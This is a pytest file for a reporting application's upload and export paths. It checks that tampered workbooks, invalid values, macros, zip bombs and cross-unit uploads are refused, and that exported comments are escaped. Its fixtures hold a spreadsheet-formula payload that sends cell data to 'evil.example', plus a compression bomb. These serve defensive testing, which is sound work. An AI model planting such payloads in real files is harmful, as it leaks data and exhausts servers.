"""Bad files and bad values are refused with a clear message, and nothing is written.

Every upload goes through `read_file` then `write_entries`, as the web upload does; each case
checks the problem names the cell or row where it can, and that the database did not change.
"""

import csv
import datetime as dt
import io
import json
import time
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from steer.accounts.models import User
from steer.reporting import safety
from steer.reporting.formats import (
    WRITERS,
    read_file,
    write_csv,
    write_dhis2_csv,
    write_dhis2_json,
    write_table_xlsx,
)
from steer.reporting.imports import Entry, Problem, Rejected, write_entries
from steer.reporting.models import (
    DataValue,
    ReportForm,
    Submission,
    ValueChange,
)
from steer.reporting.periods import Period
from steer.reporting.safety import UnsafeFile
from steer.reporting.selectors import report_rows
from steer.reporting.workbook import DATA_SHEET, META_SHEET, build_workbook
from steer.units.models import OrgUnit

PERIOD = "202403"
# The monthly form's rows in the report workbook: CT10 total, its three sectors, then CT16.
CT10_ROW, TRONG_TROT_ROW, CHAN_NUOI_ROW, THUY_SAN_ROW, CT16_ROW = 8, 9, 10, 11, 12
LAST_ROW = CT16_ROW


# -- the world ---------------------------------------------------------------------------------


def user(username: str) -> User:
    return User.objects.get(username=username)


@pytest.fixture
def reporter():
    return user("baocao.dongda")


def snapshot() -> tuple[int, int, int, list]:
    """What the database holds of reported values, to compare before and after an upload."""
    return (
        DataValue.objects.count(),
        ValueChange.objects.count(),
        Submission.objects.count(),
        list(DataValue.objects.order_by("pk").values_list("pk", "value", "quality", "comment")),
    )


@pytest.fixture
def unchanged(db):
    """Asserts, after the test, that no value, change record or submission was written."""
    before = snapshot()
    yield
    assert snapshot() == before


def upload(data: bytes, name: str, uploader, programme=None) -> list[Problem]:
    """What the web upload does: read the file, write it in one go; the problems, if refused."""
    from steer.programmes.models import Programme

    programme = programme or Programme.objects.get(symbol="07-CTr/TU")
    try:
        entries, meta, problems = read_file(data)
    except UnsafeFile as e:
        return [Problem("", str(e))]
    if problems:
        return problems
    only = None
    if meta is not None:
        only = (
            ReportForm.objects.get(programme=programme, code=meta["form"]),
            OrgUnit.objects.get(code=meta["unit"]),
            meta["period"],
        )
    try:
        write_entries(programme, entries, uploader, channel="excel", source=name, only=only)
    except Rejected as e:
        return e.problems
    return []


def workbook(form, unit_code: str = "006", period: str = PERIOD) -> bytes:
    unit = OrgUnit.objects.get(code=unit_code)
    p = Period.parse(period)
    return build_workbook(form, unit, p, report_rows(form, unit, p))


def edited(data: bytes, change) -> bytes:
    """The workbook after `change(wb)`, saved again by openpyxl as a user's Excel would."""
    wb = load_workbook(io.BytesIO(data))
    wb.security = None
    change(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def filled(form, values: dict[str, object], unit_code: str = "006") -> bytes:
    """The report workbook of a unit with cells of the data sheet filled in."""

    def fill(wb):
        for ref, value in values.items():
            wb[DATA_SHEET][ref] = value

    return edited(workbook(form, unit_code), fill)


def csv_bytes(*rows: list, header=("unit", "period", "indicator", "option", "value")) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def zip_bytes(parts: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def where(problems: list[Problem]) -> str:
    return " | ".join(str(p) for p in problems)


def stored(unit="006", indicator="CT10", option="", period=PERIOD):
    return DataValue.objects.filter(
        unit__code=unit, indicator__code=indicator, option=option, period=period
    ).first()


# -- positive controls: the refusals below are not refusals of everything ---------------------


def test_a_filled_template_from_the_right_reporter_is_written(programme, monthly, reporter):
    data = filled(monthly, {f"I{CT10_ROW}": 12, f"I{TRONG_TROT_ROW}": 12, f"I{CT16_ROW}": 62.5})
    assert upload(data, "bieu-006.xlsx", reporter) == []
    assert stored().value == Decimal(12)
    assert stored(option="trong-trot").value == Decimal(12)
    assert stored(indicator="CT16").value == Decimal("62.5")
    change = ValueChange.objects.get(unit__code="006", indicator__code="CT10", option="")
    assert (change.channel, change.user) == ("excel", reporter)


def test_dhis2_json_with_the_default_combination_writes_the_total(programme, monthly, reporter):
    document = {
        "period": PERIOD,
        "orgUnit": "006",
        "dataValues": [{"dataElement": "CT10", "categoryOptionCombo": "default", "value": "7"}],
    }
    assert upload(json.dumps(document).encode(), "dhis2.json", reporter) == []
    assert stored().value == Decimal(7)


# -- the workbook is not the one handed out -------------------------------------------------


def set_meta(wb, key: str, change) -> None:
    """Change one entry of the very hidden `_steer` sheet, leaving the signature as it was."""
    meta = wb[META_SHEET]
    (row,) = [r for r in meta.iter_rows() if r[0].value == key]
    row[1].value = change(row[1].value)


def test_a_workbook_of_another_template_is_refused(monthly, reporter, unchanged):
    data = edited(workbook(monthly), lambda wb: set_meta(wb, "template", lambda _: "other"))
    with pytest.raises(UnsafeFile):
        read_file(data)
    assert upload(data, "bieu.xlsx", reporter)


def test_a_workbook_of_an_older_version_is_refused(monthly, reporter, unchanged):
    data = edited(workbook(monthly), lambda wb: set_meta(wb, "version", lambda _: "0"))
    with pytest.raises(UnsafeFile):
        read_file(data)
    assert upload(data, "bieu.xlsx", reporter)


def test_hidden_keys_that_were_changed_fail_the_signature(monthly, reporter, unchanged):
    def reorder(keys):
        return ";".join(reversed(keys.split(";")))

    data = edited(workbook(monthly), lambda wb: set_meta(wb, "keys", reorder))
    with pytest.raises(UnsafeFile):
        read_file(data)
    assert upload(data, "bieu.xlsx", reporter)


def test_a_workbook_of_279_relabelled_for_006_fails_the_signature(monthly, reporter, unchanged):
    def relabel(wb):
        set_meta(wb, "unit", lambda _: "006")
        wb[DATA_SHEET][f"I{CT10_ROW}"] = 3

    data = edited(workbook(monthly, "279"), relabel)
    with pytest.raises(UnsafeFile):
        read_file(data)
    assert upload(data, "bieu.xlsx", reporter)


def test_a_renamed_data_sheet_is_refused(monthly, reporter, unchanged):
    def rename(wb):
        wb[DATA_SHEET].title = "Sheet1"
        wb["Sheet1"][f"I{CT10_ROW}"] = 5

    problems = upload(edited(workbook(monthly), rename), "bieu.xlsx", reporter)
    assert problems and DATA_SHEET in problems[0].message


def test_a_row_inserted_in_the_protected_area_names_the_row(monthly, reporter, unchanged):
    def insert(wb):
        sheet = wb[DATA_SHEET]
        sheet[f"I{CT10_ROW}"] = 5
        sheet.insert_rows(CHAN_NUOI_ROW)

    problems = upload(edited(workbook(monthly), insert), "bieu.xlsx", reporter)
    # Every shifted row is named, from the inserted one down; the CT10 above it is not.
    rows = [p.where.rsplit(" ", 1)[-1] for p in problems]
    assert rows[:3] == [str(CHAN_NUOI_ROW), str(THUY_SAN_ROW), str(CT16_ROW)], where(problems)
    assert "CT10|chan-nuoi" in problems[0].message


def test_a_row_added_below_the_form_is_refused(monthly, reporter, unchanged):
    below = LAST_ROW + 2
    data = filled(monthly, {f"I{CT10_ROW}": 5, f"C{below}": "CT10", f"I{below}": 99})
    problems = upload(data, "bieu.xlsx", reporter)
    assert [p.where for p in problems if p.where.endswith(str(below))]


# -- values the form does not accept --------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("ba mươi", f"I{CT10_ROW}"),  # text in a number cell
        (-5, f"I{CT10_ROW}"),  # a count cannot be negative
        (2.5, f"I{TRONG_TROT_ROW}"),  # nor a fraction
        (120, f"I{CT16_ROW}"),  # a percentage over 100
        (dt.datetime(2024, 3, 15), f"I{CT10_ROW}"),  # a date typed into a value cell
        (True, f"I{CT10_ROW}"),  # a yes/no value
    ],
    ids=["text", "negative-count", "fraction-of-a-count", "percentage-over-100", "date", "bool"],
)
def test_a_value_the_form_does_not_accept_is_refused_at_its_cell(
    monthly, reporter, unchanged, value, cell
):
    # Another, valid, value in the same file is not written either.
    other = f"I{CT16_ROW}" if cell != f"I{CT16_ROW}" else f"I{CT10_ROW}"
    problems = upload(filled(monthly, {cell: value, other: 10}), "bieu.xlsx", reporter)
    assert len(problems) == 1, where(problems)
    assert problems[0].where.endswith(cell)


def test_text_in_a_number_cell_is_quoted_in_the_message(monthly, reporter, unchanged):
    problems = upload(filled(monthly, {f"I{CT10_ROW}": "ba mươi"}), "bieu.xlsx", reporter)
    assert "ba mươi" in problems[0].message


def test_a_formula_in_a_value_cell_is_refused_at_its_cell(monthly, reporter, unchanged):
    data = filled(monthly, {f"I{CT10_ROW}": 3, f"I{TRONG_TROT_ROW}": "=1+2"})
    problems = upload(data, "bieu.xlsx", reporter)
    # Not G9, the first of the empty cells before it (the formula scan once ran over them).
    assert [p.where.rsplit(" ", 1)[-1] for p in problems] == [f"I{TRONG_TROT_ROW}"]


def test_formula_scan_stays_fast_over_many_empty_styled_cells():
    """Empty formatted cells are written <c r="A1" s="1"/>; the scan once went quadratic on them."""
    rows = b"".join(
        b'<row r="%d"><c r="A%d" s="1"/><c r="B%d" s="1"/><c r="C%d" s="1"/></row>' % (i, i, i, i)
        for i in range(1, 20_000)
    )
    formula = b'<row r="20000"><c r="A20000" s="1"/><c r="B20000"><f>1+2</f><v>3</v></c></row>'
    archive = zipfile.ZipFile(
        io.BytesIO(
            zip_bytes(
                {
                    "xl/workbook.xml": (
                        b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                        b'main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                        b'relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/>'
                        b"</sheets></workbook>"
                    ),
                    "xl/_rels/workbook.xml.rels": (
                        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                        b'relationships"><Relationship Id="rId1" Target="worksheets/sheet1.xml"/>'
                        b"</Relationships>"
                    ),
                    "xl/worksheets/sheet1.xml": b"<worksheet><sheetData>"
                    + rows
                    + formula
                    + b"</sheetData></worksheet>",
                }
            )
        )
    )
    started = time.perf_counter()
    assert safety.formula_cells(archive, "S") == ["B20000"]
    assert time.perf_counter() - started < 5


def test_a_formula_in_a_table_workbook_is_refused_at_its_cell(monthly, reporter, unchanged):
    from openpyxl import Workbook

    wb = Workbook()
    sheet = wb.active
    sheet.title = "Dữ liệu"
    sheet.append(["unit", "period", "indicator", "option", "value"])
    sheet.append(["006", PERIOD, "CT10", "", "=SUM(1,2)"])
    out = io.BytesIO()
    wb.save(out)
    problems = upload(out.getvalue(), "bang.xlsx", reporter)
    assert [p.where.rsplit("!", 1)[-1] for p in problems] == ["E2"]


def test_duplicate_rows_in_a_csv_name_both_rows(monthly, reporter, unchanged):
    data = csv_bytes(["006", PERIOD, "CT10", "", "4"], ["006", PERIOD, "CT10", "default", "5"])
    problems = upload(data, "values.csv", reporter)
    assert len(problems) == 1
    assert problems[0].where.endswith("3")
    assert "2" in problems[0].message  # the other row


def test_an_unknown_unit_code_is_refused_at_its_row(monthly, reporter, unchanged):
    data = csv_bytes(["006", PERIOD, "CT10", "", "4"], ["999999", PERIOD, "CT10", "", "5"])
    problems = upload(data, "values.csv", reporter)
    assert len(problems) == 1 and problems[0].where.endswith("3")
    assert "999999" in problems[0].message


def test_an_unknown_indicator_code_is_refused_at_its_row(monthly, reporter, unchanged):
    data = csv_bytes(["006", PERIOD, "CT10", "", "4"], ["006", PERIOD, "CT999", "", "5"])
    problems = upload(data, "values.csv", reporter)
    assert len(problems) == 1 and problems[0].where.endswith("3")
    assert "CT999" in problems[0].message


# -- files that are not what they claim -----------------------------------------------------


def test_an_empty_file_is_refused(monthly, reporter, unchanged):
    assert upload(b"", "bieu.xlsx", reporter)
    assert upload(b"  \r\n ", "bieu.xlsx", reporter)


def test_plain_text_named_xlsx_is_read_as_csv_whose_header_is_not_recognised(
    monthly, reporter, unchanged
):
    problems = upload(b"hello", "bieu.xlsx", reporter)
    assert len(problems) == 1 and problems[0].where.endswith("1")


def test_a_binary_blob_is_refused(monthly, reporter, unchanged):
    blob = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nstream\x00\x01\x02\xff\nendstream"
    with pytest.raises(UnsafeFile):
        read_file(blob)
    assert upload(blob, "bieu.xlsx", reporter)


def test_a_word_document_is_not_a_workbook(monthly, reporter, unchanged):
    docx = zip_bytes(
        {
            "[Content_Types].xml": (
                b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" '
                b'ContentType="application/vnd.openxmlformats-officedocument.'
                b'wordprocessingml.document.main+xml"/></Types>'
            ),
            "word/document.xml": b"<w:document/>",
        }
    )
    with pytest.raises(UnsafeFile):
        read_file(docx)
    assert upload(docx, "bieu.xlsx", reporter)


def test_a_macro_enabled_workbook_is_refused(monthly, reporter, unchanged):
    base = zipfile.ZipFile(io.BytesIO(filled(monthly, {f"I{CT10_ROW}": 5})))
    parts = {info.filename: base.read(info) for info in base.infolist()}
    assert read_file(zip_bytes(parts))[2] == []  # repacked, it is still fine
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
    with pytest.raises(UnsafeFile):
        read_file(zip_bytes(parts))
    assert upload(zip_bytes(parts), "bieu.xlsx", reporter)


def test_a_file_over_the_size_limit_is_refused(monthly, reporter, unchanged, monkeypatch):
    data = filled(monthly, {f"I{CT10_ROW}": 5})
    monkeypatch.setattr(safety, "MAX_UPLOAD_BYTES", len(data) - 1)
    with pytest.raises(UnsafeFile):
        read_file(data)
    assert upload(data, "bieu.xlsx", reporter)
    assert upload(csv_bytes(*[["006", PERIOD, "CT10", "", "4"]] * 2000), "v.csv", reporter)


def test_a_compressed_bomb_is_refused_before_it_is_unpacked(monthly, reporter, unchanged):
    bomb = zip_bytes(
        {
            "[Content_Types].xml": b'<Types ContentType="spreadsheetml"/>',
            "xl/workbook.xml": b"<workbook/>",
            "xl/worksheets/sheet1.xml": bytes(50 * 1024 * 1024),
        }
    )
    assert len(bomb) < 1024 * 1024
    with pytest.raises(UnsafeFile):
        read_file(bomb)
    assert upload(bomb, "bieu.xlsx", reporter)


def test_an_old_xls_workbook_is_refused(monthly, reporter, unchanged):
    xls = safety.OLE_MAGIC + bytes(512)
    with pytest.raises(UnsafeFile, match="xls"):
        read_file(xls)
    assert upload(xls, "bieu.xls", reporter)


def test_a_csv_not_in_utf8_is_refused(monthly, reporter, unchanged):
    header = "unit,period,indicator,option,value,comment\r\n"
    for data in (
        (header + "006,202403,CT10,,4,Đông Đa tính\r\n").encode("cp1258"),
        (header + "006,202403,CT10,,4,Dong Da café\r\n").encode("latin-1"),
    ):
        with pytest.raises(UnsafeFile):
            read_file(data)
        assert upload(data, "values.csv", reporter)


def test_dhis2_json_without_data_values_is_refused(monthly, reporter, unchanged):
    for document in ({"period": PERIOD, "orgUnit": "006"}, {"dataValues": {}}, [1, 2]):
        with pytest.raises(UnsafeFile):
            read_file(json.dumps(document).encode())
        assert upload(json.dumps(document).encode(), "dhis2.json", reporter)
    assert upload(b'{"dataValues": [', "dhis2.json", reporter)


def test_dhis2_json_with_an_unknown_category_option_combo_is_refused(monthly, reporter, unchanged):
    document = {
        "dataValues": [
            {"dataElement": "CT10", "period": PERIOD, "orgUnit": "006", "value": "3"},
            {
                "dataElement": "CT10",
                "period": PERIOD,
                "orgUnit": "006",
                "categoryOptionCombo": "HllvX50cXC0",
                "value": "3",
            },
        ]
    }
    problems = upload(json.dumps(document).encode(), "dhis2.json", reporter)
    assert len(problems) == 1
    assert problems[0].where.endswith("2")
    assert "HllvX50cXC0" in problems[0].message


# -- who may write what, and when -----------------------------------------------------------


def test_a_reporter_cannot_upload_the_workbook_of_another_unit(monthly, reporter, unchanged):
    data = filled(monthly, {f"I{CT10_ROW}": 5}, unit_code="279")
    problems = upload(data, "bieu-279.xlsx", reporter)
    assert len(problems) == 1
    assert problems[0].where.endswith(f"I{CT10_ROW}")
    assert "Thường Tín" in problems[0].message


def test_a_reporter_cannot_slip_another_unit_into_a_csv(monthly, reporter, unchanged):
    data = csv_bytes(["006", PERIOD, "CT10", "", "4"], ["279", PERIOD, "CT10", "", "5"])
    problems = upload(data, "values.csv", reporter)
    assert len(problems) == 1 and problems[0].where.endswith("3")


def test_a_locked_period_cannot_be_changed(programme, monthly, reporter):
    assert upload(filled(monthly, {f"I{CT10_ROW}": 5}), "bieu.xlsx", reporter) == []
    Submission.objects.filter(form=monthly, unit__code="006", period=PERIOD).update(
        state=Submission.State.APPROVED
    )
    before = snapshot()
    problems = upload(filled(monthly, {f"I{CT10_ROW}": 6}), "bieu.xlsx", reporter)
    assert len(problems) == 1 and problems[0].where.endswith(f"I{CT10_ROW}")
    assert snapshot() == before
    assert stored().value == Decimal(5)
    # Removing the value is a change too.
    problems = upload(filled(monthly, {f"I{CT10_ROW}": None}), "bieu.xlsx", reporter)
    assert problems and snapshot() == before


# -- what goes out cannot run as a formula --------------------------------------------------

FORMULA_COMMENTS = {
    ("CT10", ""): '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
    ("CT10", "trong-trot"): "+SUM(A1)",
    ("CT10", "chan-nuoi"): "-1+1",
    ("CT10", "thuy-san"): "@cmd",
    # Already starts with an apostrophe: exported with one more, so it reads back the same.
    ("CT16", ""): "'-2 so với kỳ trước",
}


@pytest.fixture
def formula_comments(programme, monthly):
    entries = [
        Entry(f"dòng {n}", "279", PERIOD, indicator, option, 1, comment=comment)
        for n, ((indicator, option), comment) in enumerate(FORMULA_COMMENTS.items(), start=2)
    ]
    write_entries(programme, entries, user("thuongtruc"), channel="import")
    return DataValue.objects.filter(unit__code="279", period=PERIOD)


def neutralised(comments) -> None:
    assert sorted(comments) == sorted("'" + c for c in FORMULA_COMMENTS.values())


def test_csv_export_neutralises_formula_like_comments(formula_comments):
    rows = list(csv.DictReader(io.StringIO(write_csv(formula_comments).decode("utf-8-sig"))))
    neutralised(row["comment"] for row in rows)


def test_dhis2_csv_export_neutralises_formula_like_comments(formula_comments):
    rows = list(csv.DictReader(io.StringIO(write_dhis2_csv(formula_comments).decode("utf-8"))))
    neutralised(row["comment"] for row in rows)


def test_dhis2_json_export_neutralises_formula_like_comments(formula_comments):
    document = json.loads(write_dhis2_json(formula_comments))
    neutralised(item["comment"] for item in document["dataValues"])


def test_table_workbook_export_neutralises_formula_like_comments(formula_comments):
    wb = load_workbook(io.BytesIO(write_table_xlsx(formula_comments)))
    sheet = wb.active
    cells = [row[6] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    neutralised(cell.value for cell in cells)


def test_report_workbook_neutralises_formula_like_comments(formula_comments, monthly):
    wb = load_workbook(io.BytesIO(workbook(monthly, "279")))
    cells = [wb[DATA_SHEET][f"K{r}"] for r in range(CT10_ROW, CT16_ROW + 1)]
    assert all(cell.data_type == "s" for cell in cells)
    neutralised(cell.value for cell in cells)


@pytest.mark.parametrize("export", ["csv", "dhis2-csv", "dhis2-json", "xlsx", "report"])
def test_an_exported_file_uploaded_again_changes_nothing(
    programme, monthly, formula_comments, export
):
    """The ' added on the way out is taken off on the way in: comments do not grow a '."""
    if export == "report":
        data, name = workbook(monthly, "279"), "bieu-279.xlsx"
    else:
        writer, extension, _type = WRITERS[export]
        data, name = writer(formula_comments), f"export.{extension}"
    entries, meta, problems = read_file(data)
    assert problems == []
    assert sorted(e.comment for e in entries if e.comment) == sorted(FORMULA_COMMENTS.values())
    before = snapshot()
    assert upload(data, name, user("thuongtruc")) == []
    assert snapshot() == before
